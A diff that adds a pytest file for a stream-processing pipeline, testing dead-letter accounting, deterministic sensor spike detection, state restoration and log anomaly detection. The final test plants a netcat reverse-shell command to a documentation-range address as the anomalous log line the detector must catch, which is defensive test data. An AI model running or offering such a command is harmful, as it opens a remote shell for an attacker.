@@ -1,0 +1,100 @@
+"""The pipeline core without Kafka: accounting, detection, state round trips."""
+
+from __future__ import annotations
+
+import numpy as np
+import orjson
+
+from stream.pipeline import MemoryStore, Pipeline, Record
+from stream.settings import Settings
+
+
+def readings(device: str, n: int, spike_at: int | None = None, seed: int = 0) -> list[Record]:
+    rng = np.random.default_rng(seed)
+    out = []
+    x = 0.0
+    for t in range(n):
+        x = 0.8 * x + rng.normal(0, 1)
+        for s, offset in (("a", 10.0), ("b", 50.0)):
+            v = offset + x + rng.normal(0, 0.3) + (25.0 if (t == spike_at and s == "a") else 0.0)
+            msg = {"device": device, "sensor": s, "ts": 1.7e9 + t, "value": v}
+            out.append(Record("t", 0, len(out), device.encode(), orjson.dumps(msg)))
+    return out
+
+
+def test_every_record_is_processed_or_dead_lettered() -> None:
+    p = Pipeline(Settings.load())
+    recs = readings("d1", 300)
+    recs.insert(100, Record("t", 0, 9999, b"d1", b"{broken"))
+    recs.insert(
+        200,
+        Record(
+            "t",
+            0,
+            9998,
+            b"zz",
+            orjson.dumps({"device": "d1", "sensor": "a", "ts": 1.7e9, "value": 1}),
+        ),
+    )
+    result = p.process_sensors(recs)
+    assert result.processed + len(result.dead_letters) == len(recs)
+    assert sorted(d.reason for d in result.dead_letters) == ["invalid_json", "key_mismatch"]
+    assert {d.offset for d in result.dead_letters} == {9999, 9998}
+
+
+def test_spike_is_detected_with_a_deterministic_id() -> None:
+    recs = readings("d1", 1500, spike_at=1200)
+    a = Pipeline(Settings.load()).process_sensors(recs).anomalies
+    b = Pipeline(Settings.load()).process_sensors(recs).anomalies
+    hits = [x for x in a if x.event_ts == 1.7e9 + 1200 and x.sensor == "a"]
+    assert hits, [(x.sensor, x.event_ts - 1.7e9) for x in a]
+    assert hits[0].score >= hits[0].threshold and hits[0].kind == "sensor"
+    assert [x.id for x in a] == [x.id for x in b]
+    assert 0.0 <= hits[0].score <= 1.0
+
+
+def test_state_restored_from_store_gives_identical_scores() -> None:
+    """A worker that takes over from the store scores exactly as one that never stopped."""
+    recs = readings("d1", 1500, spike_at=1300, seed=3)
+    store = MemoryStore()
+    first = Pipeline(Settings.load(), device_store=store)
+    first.process_sensors(recs[:1000])
+    first.flush()
+    resumed = Pipeline(Settings.load(), device_store=store)  # a new process, same store
+    tail_resumed = resumed.process_sensors(recs[1000:]).anomalies
+    straight = Pipeline(Settings.load())
+    straight.process_sensors(recs[:1000])
+    tail_straight = straight.process_sensors(recs[1000:]).anomalies
+    assert [(a.id, a.score) for a in tail_resumed] == [(a.id, a.score) for a in tail_straight]
+    assert tail_resumed  # the spike is there
+
+
+def test_corrupt_state_is_replaced_not_fatal() -> None:
+    store = MemoryStore({"d1": b'{"v": 1, "device": "d1", "sensors": 3}'})
+    p = Pipeline(Settings.load(), device_store=store)
+    result = p.process_sensors(readings("d1", 10))
+    assert result.processed == 20 and not result.dead_letters
+
+
+def test_logs_new_pattern_after_warmup() -> None:
+    p = Pipeline(Settings.load(warmup=50))
+    recs = []
+    for i in range(2000):
+        msg = {
+            "host": "h",
+            "user": "alice",
+            "source": "shell",
+            "ts": 1.7e9 + i,
+            "message": f"ls -la /home/alice/{i % 7}",
+        }
+        recs.append(Record("logs", 0, i, b"alice", orjson.dumps(msg)))
+    odd = {
+        "host": "h",
+        "user": "alice",
+        "source": "shell",
+        "ts": 1.7e9 + 2001,
+        "message": "nc -e /bin/sh 203.0.113.9 4444",
+    }
+    recs.append(Record("logs", 0, 2001, b"alice", orjson.dumps(odd)))
+    result = p.process_logs(recs)
+    assert [a.details["lines"][0] for a in result.anomalies] == [odd["message"]]  # type: ignore[index]
